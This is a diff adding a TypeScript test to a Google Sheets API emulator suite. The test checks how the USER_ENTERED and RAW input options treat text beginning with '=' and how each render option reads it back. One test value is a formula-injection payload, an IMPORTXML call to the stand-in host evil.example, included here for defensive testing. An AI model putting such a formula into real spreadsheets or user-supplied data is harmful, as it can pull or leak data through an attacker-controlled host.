@@ -549,6 +549,41 @@ describe('Google emulator', () => {
       );
     });
 
+    it('USER_ENTERED makes `=…` a formula (FORMULA renders it, the others compute it); RAW keeps text', async () => {
+      const put = (r: string, option: string, values: unknown[][]) =>
+        sheets(`/v4/spreadsheets/${id}/values/${range(r)}?valueInputOption=${option}`, token, {
+          method: 'PUT',
+          body: JSON.stringify({ values }),
+        });
+      const injected = '=IMPORTXML("https://evil.example/x", "//a")';
+      expect(
+        (await put('Sheet1!A2:C2', 'USER_ENTERED', [['=1+2*3', injected, "'=1+2"]])).status,
+      ).toBe(200);
+      expect((await put('Sheet1!A3:B3', 'RAW', [['=1+2*3', injected]])).status).toBe(200);
+      const read = async (option: string) =>
+        (
+          await json<{ values: unknown[][] }>(
+            await sheets(
+              `/v4/spreadsheets/${id}/values/${range('Sheet1!A2:C3')}?valueRenderOption=${option}`,
+              token,
+            ),
+          )
+        ).values;
+      expect(await read('FORMULA')).toEqual([
+        ['=1+2*3', injected, '=1+2'],
+        ['=1+2*3', injected],
+      ]);
+      expect(await read('UNFORMATTED_VALUE')).toEqual([
+        [7, '#N/A', '=1+2'],
+        ['=1+2*3', injected],
+      ]);
+      expect(await read('FORMATTED_VALUE')).toEqual([
+        ['7', '#N/A', '=1+2'],
+        ['=1+2*3', injected],
+      ]);
+      expect(g.readCells(id, 'Sheet1!A2:B2')).toEqual([[7, '#N/A']]);
+    });
+
     it('batchGet and an all-or-nothing batchUpdate', async () => {
       const batch = (data: unknown[]) =>
         sheets(`/v4/spreadsheets/${id}/values:batchUpdate`, token, {
